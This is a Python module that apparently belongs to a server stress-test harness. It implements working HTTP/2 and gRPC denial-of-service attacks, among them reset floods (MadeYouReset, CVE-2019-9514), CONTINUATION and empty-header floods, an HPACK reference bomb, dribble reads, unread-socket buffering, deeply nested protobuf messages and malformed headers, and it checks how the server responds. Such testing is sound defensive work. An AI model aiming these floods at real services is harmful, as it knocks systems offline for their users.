"""Attacks by frames and headers that break HTTP/2's rules, or keep them to no purpose. Published
ones have their CVE numbers, even if they were found in other servers."""

import os
import struct
import time
from collections.abc import Callable

import h2
import messages
from attack import REFUSED, Target, attack
from connection_attacks import connect_silently
from memory_attacks import connected

HEADERS = h2.call_headers(messages.SAMPLE)
# More than the 8 KiB of headers from which on gRPC inspects them.
PADDING = [(f"padding-{at}", "y" * 2000) for at in range(6)]
CHUNK = 16384  # the largest frame


def string(text: bytes) -> bytes:
    """A string in HPACK's encoding, of any length."""
    size = len(text)
    if size < 127:
        return bytes([size]) + text
    size -= 127
    length = b"\x7f"
    while size >= 128:
        length += bytes([size & 127 | 128])
        size >>= 7
    return length + bytes([size]) + text


def literal(name: str, value: str, into_table: bool = False) -> bytes:
    kind = b"\x40" if into_table else b"\x00"
    return kind + string(name.encode()) + string(value.encode())


def headers(*extra: tuple[str, str], **changed: str) -> bytes:
    """A call's header block, with some headers changed: `te`, `scheme`."""
    fields = {":method": "POST", ":scheme": "http", ":path": messages.SAMPLE, "te": "trailers"}
    fields |= {":authority": "hostile", "content-type": "application/grpc"}
    fields |= {name if name in fields else f":{name}": value for name, value in changed.items()}
    return b"".join(literal(*field) for field in [*fields.items(), *extra])


def in_frames(stream: int, block: bytes) -> bytes:
    """A header block as frames of the largest size."""
    parts = [block[at : at + CHUNK] for at in range(0, len(block), CHUNK)]
    last = len(parts) - 1
    return b"".join(
        h2.frame(
            h2.HEADERS if at == 0 else h2.CONTINUATION,
            h2.END_HEADERS if at == last else 0,
            stream,
            part,
        )
        for at, part in enumerate(parts)
    )


def keep_sending(target: Target, burst: Callable[[h2.Connection], bytes]) -> None:
    """Sends bursts without end and does not read their answers. Reconnects when closed."""
    while target.time_left() > 0:
        try:
            with connected(target) as connection:
                while target.time_left() > 0:
                    connection.write(burst(connection), max(0.1, target.time_left()), read=False)
        except OSError:
            target.codes["refused"] += 1
        time.sleep(0.02)


def keep_calling(target: Target, call: Callable[[int], bytes]) -> None:
    """Makes calls without end, 50 in a burst, from the numbers of their streams."""
    keep_sending(target, lambda made: b"".join(call(made.next_stream()) for _ in range(50)))


@attack("calls that make the server reset them (CVE-2025-8671)", holds=True, peak_mib=256)
def made_you_reset(target: Target) -> None:
    """Each breaks a rule, for which the server must end the stream: a window of no or of too many
    bytes, a PRIORITY frame that is too short or names its own stream, and frames after the end."""
    once = h2.END_HEADERS | h2.END_STREAM
    message = h2.prefixed(messages.sample(messages.tensor(1, 100)))

    def call(number: int) -> bytes:
        begin = h2.frame(h2.HEADERS, h2.END_HEADERS, number, HEADERS)
        ended = h2.frame(h2.HEADERS, once, number, HEADERS)
        breaches = (
            begin + h2.frame(h2.WINDOW_UPDATE, 0, number, bytes(4)),
            begin + h2.frame(h2.WINDOW_UPDATE, 0, number, struct.pack(">I", h2.MAX_WINDOW)),
            begin + h2.frame(h2.PRIORITY, 0, number, bytes(4)),
            begin + h2.frame(h2.PRIORITY, 0, number, struct.pack(">IB", number, 1)),
            ended + h2.frame(h2.DATA, h2.END_STREAM, number, message),
            ended + ended,
        )
        return breaches[breach % len(breaches)]

    # One kind per connection, because some end the connection.
    for breach in range(1 << 30):
        if target.time_left() == 0:
            break
        try:
            with connected(target) as connection:
                begin = time.monotonic()
                while time.monotonic() < begin + 0.2:
                    calls = b"".join(call(connection.next_stream()) for _ in range(50))
                    connection.write(calls, seconds=1)
        except OSError:
            target.codes["refused"] += 1


@attack("calls without a path, their resets not read (CVE-2019-9514)", holds=True, peak_mib=256)
def reset_flood(target: Target) -> None:
    ended = h2.END_HEADERS | h2.END_STREAM
    keep_calling(target, lambda at: h2.frame(h2.HEADERS, ended, at, literal(":nonsense", "x")))


@attack("headers with empty names and values (CVE-2019-9516)", holds=True, peak_mib=256)
def empty_headers(target: Target) -> None:
    empty = h2.frame(h2.CONTINUATION, 0, 1, literal("", "") * 5000)

    def burst(connection: h2.Connection) -> bytes:
        begin = h2.frame(h2.HEADERS, 0, 1, HEADERS) if connection.next_stream() == 1 else b""
        return begin + empty * 20

    keep_sending(target, burst)


@attack("empty CONTINUATION frames without end (CVE-2019-9518)", holds=True, peak_mib=256)
def empty_continuations(target: Target) -> None:
    def call(number: int) -> bytes:
        begin = h2.frame(h2.HEADERS, 0, number, HEADERS)
        return begin + h2.frame(h2.CONTINUATION, 0, number) * 500

    keep_calling(target, call)


@attack("a header of 4 KB sent once and named 15,000 times by each call (CVE-2016-6581)",
        holds=True, peak_mib=256)  # fmt: skip
def header_bomb(target: Target) -> None:
    first = headers() + literal("x", "y" * 3900, into_table=True)
    named = b"\xbe" * 15_000  # the table's newest entry

    def call(number: int) -> bytes:
        return in_frames(number, (first if number == 1 else headers()) + named)

    keep_calling(target, call)


@attack("a length of a header that does not end (CVE-2023-33953)", holds=True, peak_mib=256)
def endless_length(target: Target) -> None:
    def burst(connection: h2.Connection) -> bytes:
        if connection.next_stream() == 1:
            return h2.frame(h2.HEADERS, 0, 1, HEADERS + b"\x00\x7f")
        return h2.frame(h2.CONTINUATION, 0, 1, b"\x80" * CHUNK) * 10

    keep_sending(target, burst)


def call_beside_another(target: Target, block: bytes) -> tuple[str | None, str | None]:
    """The codes of a call with these headers and of an earlier call on the same connection."""
    message = h2.prefixed(messages.sample(messages.tensor(1, 100)))
    with connected(target) as connection:
        other = connection.open(messages.SAMPLE)
        number = connection.next_stream()
        strange = connection.streams[number] = h2.Stream()
        strange.window = 65535
        mine = connection.streams[other]
        try:
            connection.write(in_frames(number, block))
            connection.send(number, message, end=True)
            connection.finish(number, 5)
            connection.send(other, message, end=True)
            connection.finish(other, 5)
        except h2.Closed:
            pass
        connection.codes.clear()
        return strange.code, mine.code
    return None, None


@attack("headers that ended gRPC 1.51 and 1.52, and others nobody expects (CVE-2023-1428)",
        holds=True, peak_mib=256)  # fmt: skip
def strange_headers(target: Target) -> None:
    """The server answers or refuses them, and answers the other call of the connection."""
    strange = {
        "te": headers(*PADDING, te="x"),
        "scheme": headers(*PADDING, scheme="x"),
        "grpclb_client_stats": headers(("grpclb_client_stats", "x"), *PADDING),
        "empty path": headers(path=""),
        "upper case": headers(("X-Upper", "x")),
        "grpc-timeout": headers(("grpc-timeout", "99999999999999999S")),
        "content-length": headers(("content-length", "-1")),
        "grpc-encoding": headers(("grpc-encoding", "x" * 1000)),
    }
    for name, block in strange.items():
        code, other = call_beside_another(target, block)
        target.check(code is not None and code != "DEADLINE_EXCEEDED", f"{name}: {code}")
        target.check(other == "OK", f"the other call beside {name}: {other}")


@attack("binary headers that are no base64 (CVE-2023-32732)", holds=True, peak_mib=256)
def bad_binary_header(target: Target) -> None:
    """gRPC 1.51 closes the caller's connection with all of its calls; other connections go on."""
    block = headers(("x-bin", "!!!!"))
    message = h2.prefixed(messages.sample(messages.tensor(1, 100)))
    _, beside = call_beside_another(target, block)
    target.notes.append(f"the connection's other call: {beside}")
    with connected(target) as others:
        number = others.open(messages.SAMPLE)
        keep_sending(target, lambda made: in_frames(made.next_stream(), block))
        others.send(number, message, end=True)
        code = others.finish(number, 5).code
        target.check(code == "OK", f"another connection's call: {code}")


@attack("WINDOW_UPDATE frames of one byte without end", holds=True, peak_mib=256)
def window_updates(target: Target) -> None:
    one = h2.frame(h2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 500
    keep_sending(target, lambda _: one)


@attack("GOAWAY frames without end", holds=True, peak_mib=256)
def goaway_flood(target: Target) -> None:
    keep_sending(target, lambda _: h2.frame(h2.GOAWAY, 0, 0, bytes(8)) * 500)


@attack("answers fetched byte by byte (CVE-2019-9511)", holds=True, peak_mib=256)
def dribble(target: Target) -> None:
    """Each byte costs the server a frame. Reconnects when closed."""
    outputs = messages.message("OutputOptions", top_logprobs=2048)
    request = messages.sample(messages.tensor(1, 2048), outputs=outputs)
    byte = struct.pack(">I", 1)
    while target.time_left() > 0:
        try:
            with connected(target, window=1, credit=False) as connection:
                numbers = [connection.start(messages.SAMPLE, request) for _ in range(100)]
                updates = b"".join(h2.frame(h2.WINDOW_UPDATE, 0, at, byte) for at in [0, *numbers])
                while target.time_left() > 0:
                    connection.write(updates, seconds=1)
        except OSError:
            target.codes["refused"] += 1
        time.sleep(0.02)


@attack("80 MB of answers that the socket holds back (CVE-2019-9517)", holds=True)
def unread_socket(target: Target) -> None:
    """HTTP/2's windows let all of them pass; nobody reads."""
    vocab = 32768
    outputs = messages.message("OutputOptions", top_logprobs=vocab)
    request = messages.sample(messages.tensor(1, vocab), outputs=outputs)
    with connected(target) as connection:
        # The server announces the windows: read until they arrive.
        connection.call(messages.HEALTH_CHECK, b"", seconds=5)
        for _ in range(200):
            number = connection.next_stream()
            data = h2.prefixed(request)
            ended = h2.frame(h2.HEADERS, h2.END_HEADERS, number, HEADERS)
            for at in range(0, len(data), CHUNK):
                last = h2.END_STREAM if at + CHUNK >= len(data) else 0
                ended += h2.frame(h2.DATA, last, number, data[at : at + CHUNK])
            connection.write(ended, seconds=max(0.1, target.time_left()), read=False)
        time.sleep(target.time_left())


@attack("messages nested as deep as they are long, to each method", holds=True, codes=REFUSED,
        peak_mib=256)  # fmt: skip
def deep_messages(target: Target) -> None:
    """Groups in groups, which a reader skips by recursion, and messages in messages."""
    groups = b"\x0b" * 2_000_000
    nested = b""
    for _ in range(2000):
        nested = messages.field(1, nested)
    native = ("Sample", "VerifyDraft", "Describe", "RegisterRegion")
    # For each method, a field whose type is a message.
    methods = [(messages.NATIVE + name, 1) for name in native] + [(messages.MODEL_INFER, 5)]
    for path, number in methods:
        with connected(target) as connection:
            for body in (groups, messages.field(number, groups), nested):
                stream = connection.call(path, body, seconds=10)
                said = stream.code in REFUSED
                target.check(said, f"{path.split('/')[-1]} of {len(body)} bytes: {stream.code}")


@attack("connections that speak HTTP/1, TLS or nothing known", holds=True, peak_mib=256, cores=1.5)
def other_protocols(target: Target) -> None:
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
    begun = h2.PREFACE[:20]
    said = (b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", hello + os.urandom(500), os.urandom(4000), begun)
    while target.time_left() > 0:
        for start in said:
            made = connect_silently(target)
            if made is None:
                continue
            try:
                made.sendall(start)
                target.sent += len(start)
            except OSError:
                pass
            made.close()
